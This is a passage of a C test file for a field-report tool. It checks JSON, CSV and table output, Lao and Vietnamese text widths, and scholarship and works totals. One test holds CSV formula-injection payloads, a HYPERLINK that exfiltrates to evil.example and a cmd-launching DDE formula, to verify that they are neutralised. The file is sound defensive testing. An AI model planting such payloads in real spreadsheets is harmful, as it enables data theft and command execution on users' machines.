	const cJSON *tg, *s;

	p.targets_error = bad;
	assert_int_equal(srv_report_build(w->in, &p, &doc, msg, sizeof msg),
			 0);
	tg = at(doc, "targets");
	assert_string_equal(str(tg, "error"), bad);
	assert_int_equal(num(tg, "year"), 2026);
	assert_int_equal(cJSON_GetArraySize(at(tg, "items")), 0);
	s = at(doc, "summary");
	assert_true(cJSON_IsNull(at(s, "targets")));
	assert_true(cJSON_IsNull(at(s, "targets_met")));
	assert_int_equal(num(s, "visits"), num(at(w->doc, "summary"),
					       "visits"));
	for (const cJSON *v = at(doc, "visits")->child; v; v = v->next)
		assert_true(cJSON_IsNull(at(v, "high_level")));
	/* The rest equals the good file's document member for member. */
	good = cJSON_Duplicate(w->doc, 1);
	assert_non_null(good);
	for (cJSON *d = good; d; d = d == good ? doc : NULL) {
		cJSON_DeleteItemFromObjectCaseSensitive(d, "targets");
		cJSON_DeleteItemFromObjectCaseSensitive(
			cJSON_GetObjectItemCaseSensitive(d, "summary"),
			"targets");
		cJSON_DeleteItemFromObjectCaseSensitive(
			cJSON_GetObjectItemCaseSensitive(d, "summary"),
			"targets_met");
		for (cJSON *v = cJSON_GetObjectItemCaseSensitive(d, "visits")
				->child; v; v = v->next)
			cJSON_DeleteItemFromObjectCaseSensitive(v,
								"high_level");
	}
	assert_true(cJSON_Compare(good, doc, 1));
	cJSON_Delete(good);
	cJSON_Delete(doc);

	assert_int_equal(srv_report_build(w->in, &p, &doc, msg, sizeof msg),
			 0);
	assert_int_equal(srv_report_render(doc, SRV_REPORT_TABLE, &text,
					   &len), 0);
	assert_non_null(strstr(text, "Targets 2026\nThe targets file has a "
			       "mistake, so no target is evaluated (every "
			       "other section is complete):\n  hq.db.targets:"
			       "7:12: unknown province \"Vientiane\"; allowed: "
			       "Attapeu, Champasak, Salavan, Sekong\n\n"));
	assert_non_null(strstr(text, "Demonstration models\n"));
	free(text);
	assert_int_equal(srv_report_render(doc, SRV_REPORT_CSV, &text, &len),
			 0);
	assert_non_null(strstr(text, "Targets 2026\r\nError,\"hq.db.targets:"
			       "7:12: unknown province \"\"Vientiane\"\"; "
			       "allowed: Attapeu, Champasak, Salavan, "
			       "Sekong\"\r\n\r\n"));
	free(text);
	assert_int_equal(srv_report_render_csv_table(doc, "targets", &csv,
						     &len), 0);
	assert_string_equal(csv, "\xEF\xBB\xBF" "Target,From,To,Expected,"
			    "Actual,Status,Description\r\n");
	free(csv);
	assert_int_equal(srv_report_table_json(doc, "targets", NULL, &tj), 0);
	assert_string_equal(str(tj, "error"), bad);
	assert_int_equal(cJSON_GetArraySize(at(tj, "rows")), 0);
	cJSON_Delete(tj);
	/* Other tables carry no error. */
	assert_int_equal(srv_report_table_json(doc, "models", NULL, &tj), 0);
	assert_null(cJSON_GetObjectItemCaseSensitive(tj, "error"));
	assert_true(cJSON_GetArraySize(at(tj, "rows")) > 0);
	cJSON_Delete(tj);
	cJSON_Delete(doc);
}

static void test_json_devices(void **state)
{
	world *w = *state;
	cJSON *doc = rendered_json(w);
	const cJSON *ds = at(doc, "devices"), *d;

	assert_int_equal(cJSON_GetArraySize(ds), 5);
	assert_string_equal(str(cJSON_GetArrayItem(ds, 0), "name"), "HQ");
	assert_string_equal(str(cJSON_GetArrayItem(ds, 4), "name"),
			    "ອຸປະກອນ ເຊກອງ");
	assert_true(cJSON_IsFalse(at(find(ds, "name", "HQ"), "not_synced")));
	assert_true(cJSON_IsFalse(at(find(ds, "name", "Lost phone"),
				     "not_synced")));
	assert_true(cJSON_IsFalse(at(find(ds, "name",
					  "Laptop Salavan (Nguyễn)"),
				     "not_synced")));
	d = find(ds, "name", "Leader tablet");
	assert_true(cJSON_IsTrue(at(d, "not_synced")));
	assert_true(cJSON_IsNull(at(d, "last_sync")));
	d = find(ds, "name", "ອຸປະກອນ ເຊກອງ");
	assert_true(cJSON_IsTrue(at(d, "not_synced")));
	assert_string_equal(str(d, "last_sync"), "2026-04-15");
	assert_int_equal(num(d, "days_since"), 20);
	/* Flags for HQ to look at (a copied store, a restore): "" if none. */
	assert_string_equal(str(d, "flags"), "");
	assert_string_equal(str(find(ds, "name", "Lost phone"), "flags"),
			    "forked,restored");
	cJSON_Delete(doc);
}

static void test_filters(void **state)
{
	world *w = *state;
	srv_report_params p = w->p;
	cJSON *doc = NULL;
	char msg[256];
	static const long long salavan[10] = {1, 8, 1, 15, 1, 2, 2, 1, 42, 0};
	static const long long health[10] = {0, 0, 1, 5, 2, 4, 27, 6, 43, 73};

	p.province = "Salavan";
	assert_int_equal(srv_report_build(w->in, &p, &doc, msg, sizeof msg),
			 0);
	assert_int_equal(cJSON_GetArraySize(at(doc, "by_province")), 1);
	expect_figures(at(doc, "totals"), salavan);
	assert_int_equal(cJSON_GetArraySize(at(doc, "visits")), 2);
	assert_int_equal(cJSON_GetArraySize(at(doc, "trips")), 1);
	assert_int_equal(cJSON_GetArraySize(at(doc, "models")), 1);
	/* targets stay programme-wide */
	assert_int_equal(num(at(doc, "summary"), "targets_met"), 1);
	cJSON_Delete(doc);

	p.province = NULL;
	p.sector = "health";
	assert_int_equal(srv_report_build(w->in, &p, &doc, msg, sizeof msg),
			 0);
	assert_int_equal(cJSON_GetArraySize(at(doc, "by_sector")), 1);
	expect_figures(at(doc, "totals"), health);
	/* no model is a health model */
	assert_int_equal(cJSON_GetArraySize(at(doc, "models")), 0);
	cJSON_Delete(doc);

	p.sector = "Y tế"; /* not canonical: the caller must look it up */
	assert_int_equal(srv_report_build(w->in, &p, &doc, msg, sizeof msg),
			 -1);
	assert_null(doc);
	assert_non_null(strstr(msg, "--sector"));
	assert_non_null(strstr(msg, "health"));
}

/* ---- tests: CSV ---------------------------------------------------------- */

static void test_csv(void **state)
{
	world *w = *state;
	char *csv = NULL;
	size_t len = 0;

	assert_int_equal(srv_report_render(w->doc, SRV_REPORT_CSV, &csv, &len),
			 0);
	/* BOM first, then every line ends with CRLF, never a bare LF */
	assert_memory_equal(csv, "\xEF\xBB\xBF" "Summary\r\nItem,Value\r\n",
			    3 + 9 + 12);
	for (size_t i = 0; i < len; i++)
		if (csv[i] == '\n' && (i == 0 || csv[i - 1] != '\r'))
			fail_msg("bare LF at byte %zu", i);
	assert_true(len >= 2 && memcmp(csv + len - 2, "\r\n", 2) == 0);
	assert_non_null(strstr(csv, "\r\nPeriod,2026H1\r\n"));
	assert_non_null(strstr(csv, "\r\nOpen conflicts,3\r\n"));
	assert_non_null(strstr(csv, "\r\nModels stale (no observation for "
				    "more than 30 days),2\r\n"));

	/* one section per table: title row, header row, data rows */
	assert_non_null(strstr(csv,
		"\r\nBy province\r\n"
		"Province,Visits out,Members out,Visits in,Members in,Trips,"
		"Expert-days,Trainings,Trained,Patients\r\n"
		"Attapeu,0,0,1,5,1,15,4,25,40\r\n"
		"Champasak,1,12,0,0,1,2,0,0,0\r\n"
		"Salavan,1,8,1,15,1,2,1,42,0\r\n"
		"Sekong,1,4,0,0,1,12,2,18,33\r\n"
		"Total,3,24,2,20,4,31,7,85,73\r\n\r\n"));
	/* numbers plain (3.8, 76), Vietnamese and Lao byte for byte */
	assert_non_null(strstr(csv,
		"\r\nNgô nếp (sticky maize),Salavan,Lao Ngam,ບ້ານໜອງບົວ,5,3.8,76,"
		"42,42,2026-04-10,no,\r\n")  /* no roster: author empty */);
	assert_non_null(strstr(csv,
		"\r\nNấm linh chi,Champasak,,,0.5,,,10,,,yes,\r\n"));
	/* a field with a comma and quotes is quoted, quotes doubled */
	assert_non_null(strstr(csv,
		"\r\n2026-01-15,,out,Champasak,industry-trade,Trần Thị Bình,"
		"\"Director, \"\"Gia Lai Trade\"\" Centre\",12,"
		"Pakse Chamber of Commerce,\r\n"));
	assert_non_null(strstr(csv,
		"\r\n2026-04-12,2026-04-14,in,Salavan,politics,ທ່ານ ບຸນມີ,"
		"ເຈົ້າແຂວງ ສາລະວັນ,15,,\r\n"));
	assert_non_null(strstr(csv,
		"\r\n2026-04-27,2026-05-08,Sekong,health,obstetrics,"
		"BS. Đỗ Thị Hoa,Sekong provincial hospital,1,12,2,18,33,\r\n"));
	assert_non_null(strstr(csv,
		"\r\nTargets 2026\r\nTarget,From,To,Expected,Actual,Status,"
		"Description\r\nmedical-experts,2026-01-01,2026-12-31,4,2,"
		"pending,Medical experts sent to each province\r\n"));
	/* only the devices not synced, the Lao name intact */
	assert_non_null(strstr(csv,
		"\r\nDevices not synced for more than 14 days\r\n"
		"Device,Role,Id,Last sync,Days\r\n"
		"Leader tablet,leader,d3000000000000000000000000000000,,\r\n"
		"ອຸປະກອນ ເຊກອງ,expert,d2000000000000000000000000000000,"
		"2026-04-15,20\r\n\r\n"));
	free(csv);
}

/* --format csv --table: one rectangular table per file, no title row. */
static void test_csv_table(void **state)
{
	world *w = *state;
	char *csv = NULL;
	size_t len = 0;

	assert_int_equal(srv_report_render_csv_table(w->doc, "provinces", &csv,
						     &len), 0);
	assert_int_equal(len, strlen(csv));
	/* the same rows as the stacked section above, and nothing else */
	assert_string_equal(csv, "\xEF\xBB\xBF"
		"Province,Visits out,Members out,Visits in,Members in,Trips,"
		"Expert-days,Trainings,Trained,Patients\r\n"
		"Attapeu,0,0,1,5,1,15,4,25,40\r\n"
		"Champasak,1,12,0,0,1,2,0,0,0\r\n"
		"Salavan,1,8,1,15,1,2,1,42,0\r\n"
		"Sekong,1,4,0,0,1,12,2,18,33\r\n"
		"Total,3,24,2,20,4,31,7,85,73\r\n");
	free(csv);
	assert_int_equal(srv_report_render_csv_table(w->doc, "summary", &csv,
						     &len), 0);
	assert_memory_equal(csv, "\xEF\xBB\xBF" "Item,Value\r\nPeriod,2026H1"
			    "\r\n", 3 + 12 + 15);
	free(csv);
	for (const char *t = srv_report_tables(); *t;) {
		char name[32];
		size_t n = strcspn(t, ",");
		assert_true(n < sizeof name);
		memcpy(name, t, n);
		name[n] = '\0';
		assert_true(srv_report_table_known(name));
		assert_int_equal(srv_report_render_csv_table(w->doc, name,
							     &csv, &len), 0);
		assert_memory_equal(csv, "\xEF\xBB\xBF", 3);
		free(csv);
		t += n;
		t += strspn(t, ", ");
	}
	assert_false(srv_report_table_known("Visits"));
	assert_int_equal(srv_report_render_csv_table(w->doc, "all", &csv,
						     &len), -2);
	assert_null(csv);
}

/* The typed tables the workbook is written from: English headers and
** canonical values without a language, the same cells named in the
** report's language with one; the observations and conflicts tables take
** what the store adds to the document (here made by hand). */
static void test_table_json(void **state)
{
	world *w = *state;
	cJSON *doc = cJSON_Duplicate(w->doc, 1), *t = NULL;
	char *j;

	assert_non_null(doc);
	assert_int_equal(srv_report_table_json(doc, "provinces", NULL, &t), 0);
	j = cJSON_PrintUnformatted(t);
	assert_non_null(strstr(j, "\"name\":\"provinces\",\"sheet\":"
			       "\"By province\",\"columns\":[{\"head\":"
			       "\"Province\",\"kind\":\"text\"},{\"head\":"
			       "\"Visits out\",\"kind\":\"number\"}"));
	assert_non_null(strstr(j, "[\"Attapeu\",0,0,1,5,1,15,4,25,40]"));
	assert_non_null(strstr(j, "[\"Total\",3,24,2,20,4,31,7,85,73]]"));
	free(j);
	cJSON_Delete(t);
	assert_int_equal(srv_report_table_json(doc, "provinces", "vi", &t), 0);
	j = cJSON_PrintUnformatted(t);
	assert_non_null(strstr(j, "\"sheet\":\"Theo tỉnh\",\"columns\":"
			       "[{\"head\":\"Tỉnh\",\"kind\":\"text\"},"
			       "{\"head\":\"Đoàn ra\",\"kind\":\"number\"}"));
	assert_non_null(strstr(j, "[\"Tổng cộng\",3,24,2,20,4,31,7,85,73]]"));
	free(j);
	cJSON_Delete(t);

	cJSON_AddItemToObject(doc, "observations", cJSON_Parse(
		"[{\"crop\":\"Ngô nếp\",\"province\":\"Salavan\","
		"\"date\":\"2026-04-10\",\"sown_ha\":3.8,\"households\":42,"
		"\"notes\":null,\"author\":\"An\"}]"));
	cJSON_AddItemToObject(doc, "conflicts", cJSON_Parse(
		"[{\"record\":\"ab12\",\"field\":\"tags\",\"winner_value\":"
		"[\"a\",\"b\"],\"winner_device\":"
		"\"d2000000000000000000000000000000\",\"loser_value\":7,"
		"\"loser_device\":\"ffff\"}]"));
	assert_int_equal(srv_report_table_json(doc, "observations", NULL, &t),
			 0);
	j = cJSON_PrintUnformatted(cJSON_GetObjectItem(t, "rows"));
	assert_string_equal(j, "[[\"Ngô nếp — Salavan\",\"2026-04-10\",3.8,"
			    "42,null,\"An\"]]");
	free(j);
	cJSON_Delete(t);
	assert_int_equal(srv_report_table_json(doc, "observations", "lo", &t),
			 0);
	j = cJSON_PrintUnformatted(cJSON_GetObjectItem(t, "rows"));
	assert_string_equal(j, "[[\"Ngô nếp — ສາລະວັນ\",\"2026-04-10\",3.8,"
			    "42,null,\"An\"]]");
	free(j);
	cJSON_Delete(t);
	/* a record not in the store: its id; a list value as JSON; a device
	** by its name, an unknown one by its id */
	assert_int_equal(srv_report_table_json(doc, "conflicts", "en", &t), 0);
	j = cJSON_PrintUnformatted(cJSON_GetObjectItem(t, "rows"));
	assert_string_equal(j, "[[\"ab12\",\"tags\",\"[\\\"a\\\",\\\"b\\\"]\","
			    "\"ອຸປະກອນ ເຊກອງ\",7,\"ffff\"]]");
	free(j);
	cJSON_Delete(t);
	assert_int_equal(srv_report_table_json(doc, "everything", "vi", &t),
			 -2);
	assert_null(t);
	cJSON_Delete(doc);
}

/* CSV formula injection (OWASP "CSV Injection"): a text cell beginning with
** = + - @, a tab or a CR is run as a formula by spreadsheet programs. Such a
** cell is written quoted with a ' in front, which spreadsheets show as text;
** numbers, negative ones included, are written as they are. The first
** entries go through the real record check and merge; tab, CR and a
** negative number are not allowed in records, so they come in a document
** made by hand (the renderer takes any document). */
static void test_csv_formulas(void **state)
{
	srv_report_input *in = srv_report_input_new();
	srv_report_params p;
	cJSON *doc = NULL;
	char *csv = NULL, msg[256];
	size_t len = 0;

	(void)state;
	assert_non_null(in);
	add(in, "visit", "51000000000000000000000000000001", "2026-01-21",
	    "{\"direction\":\"out\",\"province\":\"Salavan\","
	    "\"leader\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,"
	    "\\\"Click\\\")\",\"title\":\"+1+cmd|' /C calc'!A0\","
	    "\"members\":8,\"sector\":\"agriculture\","
	    "\"host\":\"@SUM(1,2)\",\"start\":\"2026-01-20\"}");
	add(in, "trip", "52000000000000000000000000000001", "2026-03-07",
	    "{\"expert\":\"-2+3\",\"experts\":3,\"specialty\":\"surgery\","
	    "\"province\":\"Attapeu\",\"site\":\"Bệnh viện = hospital\","
	    "\"start\":\"2026-03-02\",\"end\":\"2026-03-06\","
	    "\"trainings\":4,\"trained\":25,\"patients\":40}");
	memset(&p, 0, sizeof p);
	assert_int_equal(srv_period_parse("2026H1", &p.period, msg, sizeof msg),
			 0);
	p.now_ms = ms_of("2026-05-05");
	assert_int_equal(srv_report_build(in, &p, &doc, msg, sizeof msg), 0);
	assert_int_equal(srv_report_render(doc, SRV_REPORT_CSV, &csv, &len), 0);
	assert_non_null(strstr(csv,
		"\r\n2026-01-20,,out,Salavan,agriculture,"
		"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
		"\"'+1+cmd|' /C calc'!A0\",8,\"'@SUM(1,2)\",\r\n"));
	/* '=' inside a text is harmless and stays as it is */
	assert_non_null(strstr(csv,
		"\r\n2026-03-02,2026-03-06,Attapeu,health,surgery,\"'-2+3\","
		"Bệnh viện = hospital,3,15,4,25,40,\r\n"));
	free(csv);
	cJSON_Delete(doc);
	srv_report_input_free(in);

	doc = cJSON_Parse(
		"{\"period\":{\"label\":\"2026H1\"},\"visits\":[{"
		"\"start\":\"2026-01-20\",\"direction\":\"out\","
		"\"province\":\"Salavan\",\"leader\":\"\\tTAB\","
		"\"title\":\"\\rCR\",\"members\":-3,\"host\":\"-\"}],"
		"\"devices\":[{\"name\":\"=x\",\"role\":\"expert\",\"id\":\"d1\","
		"\"last_sync\":null,\"days_since\":-1.5,\"not_synced\":true}]}");
	assert_non_null(doc);
	assert_int_equal(srv_report_render(doc, SRV_REPORT_CSV, &csv, &len), 0);
	assert_non_null(strstr(csv,
		"\r\n2026-01-20,,out,Salavan,,\"'\tTAB\",\"'\rCR\",-3,\"'-\",\r\n"));
	assert_non_null(strstr(csv, "\r\n\"'=x\",expert,d1,,-1.5\r\n"));
	free(csv);
	cJSON_Delete(doc);
}

/* ---- tests: table -------------------------------------------------------- */

static void test_display_width(void **state)
{
	(void)state;
	/* ສ າ ລ ະ ວ ັ ນ: 7 code points, U+0EB1 (ັ) is a combining mark */
	assert_int_equal(srv_display_width("ສາລະວັນ", strlen("ສາລະວັນ")), 6);
	/* ຈ ຳ ປ າ ສ ັ ກ: U+0EB3 (ຳ) is spacing, U+0EB1 is not */
	assert_int_equal(srv_display_width("ຈຳປາສັກ", strlen("ຈຳປາສັກ")), 6);
	/* precomposed Vietnamese: one column per letter */
	assert_int_equal(srv_display_width("Nguyễn", strlen("Nguyễn")), 6);
	/* decomposed: e + U+0302 + U+0303 */
	assert_int_equal(srv_display_width("e\xCC\x82\xCC\x83", 5), 1);
	assert_int_equal(srv_display_width("", 0), 0);
}

static void test_table(void **state)
{
	world *w = *state;
	char *t = NULL;
	size_t len = 0;

	assert_int_equal(srv_report_render(w->doc, SRV_REPORT_TABLE, &t, &len),
			 0);
	assert_true(strncmp(t, "fieldsync HQ report 2026H1 (2025-11-01 to "
			    "2026-04-30)\n\n", 53) == 0);
	/* "ອຸປະກອນ ເຊກອງ" is 13 code points, one of them (U+0EB8) a
	** combining mark: 12 columns. The widest name is "Leader tablet" (13),
	** so the Lao name gets 1 space of padding (not 13 - its 36 bytes), then
	** the 2-space gap. Role 6 wide, id 32, "Last sync" 10 (a date), Days 4
	** right-aligned. */
	assert_non_null(strstr(t,
		"Devices not synced for more than 14 days\n"
		"Device         Role    Id                                "
		"Last sync   Days\n"
		"-------------  ------  --------------------------------  "
		"----------  ----\n"
		"Leader tablet  leader  d3000000000000000000000000000000  "
		"-              -\n"
		"ອຸປະກອນ ເຊກອງ   expert  d2000000000000000000000000000000  "
		"2026-04-15    20\n\n"));
	/* numbers right-aligned under their headers */
	assert_non_null(strstr(t,
		"Province   Visits out  Members out  Visits in  Members in  "
		"Trips  Expert-days  Trainings  Trained  Patients\n"));
	assert_non_null(strstr(t,
		"Attapeu             0            0          1           5  "
		"    1           15          4       25        40\n"));
	assert_non_null(strstr(t,
		"Total               3           24          2          20  "
		"    4           31          7       85        73\n"));
	free(t);
}

/* ---- tests: scholarships and friendship works ---------------------------
**
** The previous period's figures (DOMAIN.md, 2021-2026), rebuilt as records:
** five academic years 2021-2022 .. 2025-2026, each with four batches of 60
** scholarships in all: Attapeu university 20, Champasak master 8, Salavan
** vocational 20, Sekong college 12. Enrolled each year: Attapeu 17,
** Champasak 7, Salavan 16, Sekong 10, except Sekong 11 in 2025-2026.
**   awarded  = 5 x (20 + 8 + 20 + 12) = 5 x 60 = 300
**   enrolled = 4 x (17 + 7 + 16 + 10) + (17 + 7 + 16 + 11) = 4 x 50 + 51
**            = 251
**   rate     = 251 / 300 = 83.67 % -> 84 (whole percent, half up)
** Rows: Attapeu 17/20 = 85; Champasak 7/8 = 87.5 -> 88 (half up); Salavan
** 16/20 = 80; Sekong 10/12 = 83.3 -> 83, in 2025-2026 11/12 = 91.7 -> 92.
** Not counted: a 2027-2028 batch (first year 2027 > the report's year
** 2026) and a deleted batch of 50.
**
** Friendship works, 15 billion đồng each: Văng Tắt small hospital
** (Attapeu, health), the Champasak provincial museum (culture), a
** classroom block in Salavan (education), the Sekong foreign-affairs office
** (recorded as culture: works are education, health or culture).
**   budget = 4 x 15,000,000,000 = 60,000,000,000
** Observations: Attapeu 2024-03-01 7,000,000,000 / 50 % under
** construction, then 2025-06-01 15,000,000,000 / 100 % handed over (the
** latest); the three others one each, 15,000,000,000 / 100 % handed over,
** except Sekong 2026-03-15 9,000,000,000 / 60 % under construction, and a
** Sekong observation 2026-05-10 (after the period's end: ignored).
**   disbursed = 15 + 15 + 15 + 9 = 54,000,000,000
*/
#define WK(n) "5100000000000000000000000000000" #n
static srv_report_input *previous_period(void)
{
	srv_report_input *in = srv_report_input_new();
	static const struct {
		const char *province, *level, *school;
		int awarded, enrolled;
	} batch[] = {
		{"Attapeu", "university", "Trường Đại học Quy Nhơn", 20, 17},
		{"Champasak", "master", "Trường Đại học Quy Nhơn", 8, 7},
		{"Salavan", "vocational", "Trường Cao đẳng Kỹ thuật Công nghệ "
		 "Quy Nhơn", 20, 16},
		{"Sekong", "college", "Trường Cao đẳng Y tế Gia Lai", 12, 10},
	};
	char id[40], f[512], year[16];
	int n = 0;

	assert_non_null(in);
	for (int y = 2021; y <= 2025; y++)
		for (int b = 0; b < 4; b++) {
			snprintf(id, sizeof id, "61%030d", n++);
			snprintf(year, sizeof year, "%d-%d", y, y + 1);
			snprintf(f, sizeof f,
				 "{\"province\":\"%s\",\"academic_year\":\"%s\","
				 "\"level\":\"%s\",\"school\":\"%s\","
				 "\"awarded\":%d,\"enrolled\":%d,"
				 "\"allowance\":1800000}", batch[b].province,
				 year, batch[b].level, batch[b].school,
				 batch[b].awarded,
				 batch[b].enrolled + (y == 2025 && b == 3));
			add(in, "scholarship", id, "2026-01-05", f);
		}
	add(in, "scholarship", "62000000000000000000000000000001",
	    "2026-01-05", "{\"province\":\"Attapeu\",\"academic_year\":"
	    "\"2027-2028\",\"level\":\"university\",\"school\":\"X\","
	    "\"awarded\":20}");
	add_deleted(in, "scholarship", "62000000000000000000000000000002",
		    "{\"province\":\"Attapeu\",\"academic_year\":\"2024-2025\","
		    "\"level\":\"university\",\"school\":\"X\",\"awarded\":50}");

	add(in, "work", WK(1), "2023-01-10", "{\"province\":\"Attapeu\","
	    "\"name\":\"Bệnh viện nhỏ Văng Tắt\",\"sector\":\"health\","
	    "\"site\":\"Sanxay\",\"budget\":15000000000}");
	add(in, "work", WK(2), "2023-01-10", "{\"province\":\"Champasak\","
	    "\"name\":\"Bảo tàng tỉnh Champasak\",\"sector\":"
	    "\"culture-sports-tourism\",\"budget\":15000000000}");
	add(in, "work", WK(3), "2023-01-10", "{\"province\":\"Salavan\","
	    "\"name\":\"Khối phòng học 3 tầng\",\"sector\":\"education\","
	    "\"budget\":15000000000}");
	add(in, "work", WK(4), "2023-01-10", "{\"province\":\"Sekong\","
	    "\"name\":\"ຫ້ອງການການຕ່າງປະເທດ ເຊກອງ\",\"sector\":"
	    "\"culture-sports-tourism\",\"budget\":15000000000}");
	add(in, "work_progress", "52000000000000000000000000000001",
	    "2024-03-01", "{\"work\":\"" WK(1) "\",\"date\":\"2024-03-01\","
	    "\"disbursed\":7000000000,\"built_pct\":50,"
	    "\"status\":\"under-construction\"}");
	add(in, "work_progress", "52000000000000000000000000000002",
	    "2025-06-01", "{\"work\":\"" WK(1) "\",\"date\":\"2025-06-01\","
	    "\"disbursed\":15000000000,\"built_pct\":100,"
	    "\"status\":\"handed-over\",\"notes\":\"Đã bàn giao\"}");
	add(in, "work_progress", "52000000000000000000000000000003",
	    "2025-06-01", "{\"work\":\"" WK(2) "\",\"date\":\"2025-06-01\","
	    "\"disbursed\":15000000000,\"built_pct\":100,"
	    "\"status\":\"handed-over\"}");
	add(in, "work_progress", "52000000000000000000000000000004",
	    "2025-06-01", "{\"work\":\"" WK(3) "\",\"date\":\"2025-06-01\","
	    "\"disbursed\":15000000000,\"built_pct\":100,"
	    "\"status\":\"handed-over\"}");
	add(in, "work_progress", "52000000000000000000000000000005",
	    "2026-03-15", "{\"work\":\"" WK(4) "\",\"date\":\"2026-03-15\","
	    "\"disbursed\":9000000000,\"built_pct\":60,"
	    "\"status\":\"under-construction\"}");
	add(in, "work_progress", "52000000000000000000000000000006",
	    "2026-05-10", "{\"work\":\"" WK(4) "\",\"date\":\"2026-05-10\","
	    "\"disbursed\":15000000000,\"built_pct\":100,"
	    "\"status\":\"handed-over\"}");
	return in;
}

static void test_education_and_works(void **state)
{
	srv_report_input *in = previous_period();
	srv_report_params p;
	cJSON *doc = NULL;
	const cJSON *e, *w;
	char msg[256], *t = NULL;
	size_t len = 0;

	(void)state;
	memset(&p, 0, sizeof p);
	assert_int_equal(srv_period_range("2021-11-01", "2026-04-30",
					  &p.period, msg, sizeof msg), 0);
	p.now_ms = ms_of("2026-05-05");
	assert_int_equal(srv_report_build(in, &p, &doc, msg, sizeof msg), 0);

	e = at(doc, "education_totals");
	assert_int_equal(num(e, "awarded"), 300);
	assert_int_equal(num(e, "enrolled"), 251);
	assert_int_equal(num(e, "rate"), 84);
	assert_int_equal(num(e, "batches"), 20);
	/* 5 years x 4 provinces; the 2027-2028 batch is not there. */
	assert_int_equal(cJSON_GetArraySize(at(doc, "education")), 20);
	e = cJSON_GetArrayItem(at(doc, "education"), 0);
	assert_string_equal(str(e, "academic_year"), "2021-2022");
	assert_string_equal(str(e, "province"), "Attapeu");
	assert_int_equal(num(e, "rate"), 85);
	e = cJSON_GetArrayItem(at(doc, "education"), 1);
	assert_string_equal(str(e, "province"), "Champasak");
	assert_int_equal(num(e, "rate"), 88);
	e = cJSON_GetArrayItem(at(doc, "education"), 3);
	assert_string_equal(str(e, "province"), "Sekong");
	assert_int_equal(num(e, "rate"), 83);
	e = cJSON_GetArrayItem(at(doc, "education"), 19);
	assert_string_equal(str(e, "academic_year"), "2025-2026");
	assert_string_equal(str(e, "province"), "Sekong");
	assert_int_equal(num(e, "enrolled"), 11);
	assert_int_equal(num(e, "rate"), 92);

	w = at(doc, "works_totals");
	assert_int_equal(num(w, "works"), 4);
	assert_true(num(w, "budget") == 60000000000.0);
	assert_true(num(w, "disbursed") == 54000000000.0);
	w = find(at(doc, "works"), "id", WK(1));
	assert_string_equal(str(w, "status"), "handed-over");
	assert_string_equal(str(w, "last_observation"), "2025-06-01");
	assert_int_equal(num(w, "built_pct"), 100);
	assert_int_equal(num(w, "observations"), 2);
	assert_string_equal(str(w, "notes"), "Đã bàn giao");
	w = find(at(doc, "works"), "id", WK(4));
	assert_string_equal(str(w, "status"), "under-construction");
	assert_int_equal(num(w, "built_pct"), 60);
	assert_true(num(w, "disbursed") == 9000000000.0);

	/* The table writes money as proto_money_format does in English, the
	** totals also short (60 x 10^9 = 60 billion; 54 x 10^9 = 54 billion);
	** CSV keeps plain digits, the unit in the heading. */
	assert_int_equal(srv_report_render(doc, SRV_REPORT_TABLE, &t, &len),
			 0);
	assert_non_null(strstr(t, "Education: scholarships\n"));
	assert_non_null(strstr(t, "Friendship works\n"));
	assert_non_null(strstr(t, " 15,000,000,000 VND "));
	assert_non_null(strstr(t, "60,000,000,000 VND (60 billion VND)"));
	assert_non_null(strstr(t, "54,000,000,000 VND (54 billion VND)"));
	assert_non_null(strstr(t, "Friendship works budget     "));
	assert_null(strstr(t, "60000000000"));
	free(t);
	assert_int_equal(srv_report_render(doc, SRV_REPORT_CSV, &t, &len), 0);
	assert_non_null(strstr(t, "Total,,,60000000000,54000000000"));
	assert_non_null(strstr(t, ",Budget VND,Disbursed VND,"));
	assert_non_null(strstr(t, "\r\nFriendship works budget VND,60000000000\r\n"));
	assert_non_null(strstr(t, "\r\nScholarships awarded,300\r\n"));
	assert_non_null(strstr(t, "\r\nEnrolled %,84\r\n"));
	assert_non_null(strstr(t, "Total,,300,251,84"));
	free(t);
	cJSON_Delete(doc);

	/* Filters as for the other kinds: a province, a sector. */
	p.province = "Sekong";
	assert_int_equal(srv_report_build(in, &p, &doc, msg, sizeof msg), 0);
	e = at(doc, "education_totals");
	/* Sekong: 4 x 10 + 11 = 51 of 5 x 12 = 60 -> 85 % */
	assert_int_equal(num(e, "awarded"), 60);
	assert_int_equal(num(e, "enrolled"), 51);
	assert_int_equal(num(e, "rate"), 85);
	assert_int_equal(num(at(doc, "works_totals"), "works"), 1);
	cJSON_Delete(doc);
	p.province = NULL;
	p.sector = "health";
	assert_int_equal(srv_report_build(in, &p, &doc, msg, sizeof msg), 0);
	assert_int_equal(num(at(doc, "works_totals"), "works"), 1);
	assert_true(num(at(doc, "works_totals"), "budget") == 15000000000.0);
	/* scholarships are education */
	assert_int_equal(num(at(doc, "education_totals"), "awarded"), 0);
	cJSON_Delete(doc);
	p.sector = "education";
	assert_int_equal(srv_report_build(in, &p, &doc, msg, sizeof msg), 0);
	assert_int_equal(num(at(doc, "education_totals"), "awarded"), 300);
	assert_int_equal(num(at(doc, "works_totals"), "works"), 1);
	cJSON_Delete(doc);
	srv_report_input_free(in);
}

/* The 2026 targets of the shipped file for scholarships and works:
** academic year 2026-2027 with 20 scholarships for Attapeu, Champasak and
** Salavan and 12 for Sekong (two batches of 12 and 8 would make Sekong's
** 20; here only the 12), and one work recorded in 2026 for each province
** but Sekong. Report 2026H2 (2026-05-01 .. 2026-10-31), now 2026-11-05:
**  scholarships-per-province: one window 2026 (open: ends 12-31 after
**    as_of 10-31); cells Attapeu 20, Champasak 20, Salavan 20 met, Sekong
**    12 < 20 -> expected 4 x 20 = 80, actual 20 + 20 + 20 + 12 = 72,
**    pending (the window is still open).
**  works-per-province: one window 2026-01-01 .. 2030-12-31; three
**    provinces with a work -> expected 4, actual 3, pending.
**  works-budget: 10,000,000,000 per province; Attapeu 10 billion (met),
**    Champasak 12 billion (met), Salavan 4 billion, Sekong none -> expected
**    40 billion, actual 10 + 10 (capped) + 4 + 0 = 24 billion, pending.
** The batch of the academic year 2025-2026 (Attapeu, 20) counts in 2025,
** not here. */
static void test_targets_scholarships_works(void **state)
{
	srv_report_input *in = srv_report_input_new();
	srv_targets *t = NULL;
	srv_report_params p;
	cJSON *doc = NULL;
	const cJSON *items, *x;
	char msg[256];
	static const char *const prov[] = {"Attapeu", "Champasak", "Salavan",
					   "Sekong"};

	(void)state;
	assert_non_null(in);
